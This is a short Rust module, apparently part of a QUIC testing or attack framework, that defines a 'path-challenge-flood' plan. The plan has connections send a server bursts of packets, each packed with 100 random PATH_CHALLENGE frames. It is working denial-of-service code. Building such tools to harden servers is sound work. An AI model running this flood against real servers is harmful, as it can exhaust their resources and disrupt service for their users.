//! Endless PATH_CHALLENGE frames.

use courser_crypto::Space;
use courser_wire::{Frame, PathChallenge};

use crate::attack::{Plan, Victim};
use crate::encode;

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "path-challenge-flood",
    labels: &["A32"],
    summary: "packets full of PATH_CHALLENGE frames",
    victim: Victim::Server,
    make: || Box::new(path_challenge_flood()),
};

fn path_challenge_flood() -> Crowd {
    Crowd::new(2, |connection, _, now| {
        for _ in 0..BURST {
            let mut frames = Vec::new();
            for _ in 0..FRAMES {
                let data = connection.rng().array();
                frames.push(encode(&Frame::PathChallenge(PathChallenge { data })));
            }
            connection.send_packet(now, Space::Application, frames);
        }
    })
}

/// Packets of one connection in one turn.
const BURST: usize = 8;

/// Frames in one packet.
const FRAMES: usize = 100;
